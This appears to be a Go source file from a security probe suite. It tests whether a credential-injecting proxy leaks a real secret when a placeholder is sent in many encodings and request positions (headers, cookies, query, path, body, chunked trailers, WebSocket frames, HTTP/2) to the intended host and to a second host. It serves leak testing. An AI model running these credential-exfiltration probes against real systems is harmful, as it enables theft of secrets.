package main

import (
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"

	"golang.org/x/net/http2/hpack"

	"nacre/attack/wire"
)

// stoodIn is the probe of what stands inside in the place of the credential.
func stoodIn() probe {
	p := egress("placeholder", "CWE-200, CWE-522", "have what stands in for the credential swapped for it where the program can read it: another host, header, parameter, path, body, trailer, frame",
		"denied, or sent as it is", standIns)
	try := p.run
	p.run = func(c *wire.Config, p *probe) outcome {
		if os.Getenv(wire.PlaceholderVariable) == "" {
			return failed("nothing stands in for the credential")
		}
		return try(c, p)
	}
	return p
}

// standIns are the places of a request in which the stand-in is sent, in several forms,
// to the host that gets the credential and to one that does not.
func standIns(o *way) (list []attempt) {
	plain := os.Getenv(wire.PlaceholderVariable)
	for form, s := range map[string]string{
		"plain": plain, "base64": base64.StdEncoding.EncodeToString([]byte(plain)), "basic": base64.StdEncoding.EncodeToString([]byte("x:" + plain)),
		"percent": "%" + hex.EncodeToString([]byte(plain[:1])) + plain[1:], "twice": plain + plain,
	} {
		for _, host := range []string{o.Host, o.Second} {
			list = append(list, o.standsIn(host+" "+form, host, s)...)
		}
		list = append(list, o.reads("a frame, "+form, o.Host, o.webSocket("/chat/x")+masked(0x81, s)))
	}
	at := o.at(o.TLSPort)
	return append(list, o.streams("HTTP/2", append(o.fields("POST", "/open/echo", at), hpack.HeaderField{Name: "x-echo", Value: plain}, hpack.HeaderField{Name: "cookie", Value: plain})))
}

// standsIn sends one form to each place of a request to a host.
func (o *way) standsIn(name, host, s string) (list []attempt) {
	head := func(method, path string, lines ...string) string {
		return method + " " + path + " HTTP/1.1\r\n" + strings.Join(append([]string{fmt.Sprintf("Host: %s:%d", host, o.RawPort), "Connection: close"}, lines...), "\r\n") + "\r\n\r\n"
	}
	for where, what := range map[string]string{
		"its own place": head("GET", "/open/echo", "Authorization: Bearer "+s), "basic": head("GET", "/open/echo", "Authorization: Basic "+s), "another scheme": head("GET", "/open/echo", "Authorization: token "+s),
		"a header": head("GET", "/open/echo", "X-Echo: "+s), "a harmless one": head("GET", "/open/echo", "User-Agent: "+s, "Idempotency-Key: "+s), "a key's": head("GET", "/open/echo", "X-Api-Key: "+s),
		"a cookie": head("GET", "/open/echo", "Cookie: a="+s), "the query": head("GET", "/open/echo?a="+s), "a key in it": head("GET", "/open/echo?access_token="+s), "the path": head("GET", "/open/echo/"+s),
		"the body":  head("POST", "/open/echo", fmt.Sprintf("Content-Length: %d", len(s))) + s,
		"chunks":    head("POST", "/open/echo", "Transfer-Encoding: chunked") + fmt.Sprintf("%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", len(s)/2, s[:len(s)/2], len(s)-len(s)/2, s[len(s)/2:]),
		"a trailer": head("POST", "/open/echo", "Transfer-Encoding: chunked", "Trailer: X-Echo") + "0\r\nX-Echo: " + s + "\r\n\r\n",
	} {
		list = append(list, o.reads(name+", "+where, host, what))
	}
	return list
}

// reads sends a request and reads in the reply what a thief looks for.
func (o *way) reads(name, host, what string) attempt {
	return attempt{name, func() error {
		c, err := o.secureAt(host, o.RawPort, host, "http/1.1")
		if err != nil {
			return errors.New(shortError(err))
		}
		defer c.Close()
		if _, err := io.WriteString(c, what); err != nil {
			return errors.New(shortError(err))
		}
		reply, _ := io.ReadAll(io.LimitReader(c, 1<<20))
		if out, ok := stolen(o.config, name, []byte(readings(string(reply)))); ok {
			return errors.New(out.secret) // which the judge knows
		}
		return errors.New(firstLine(string(reply)))
	}}
}
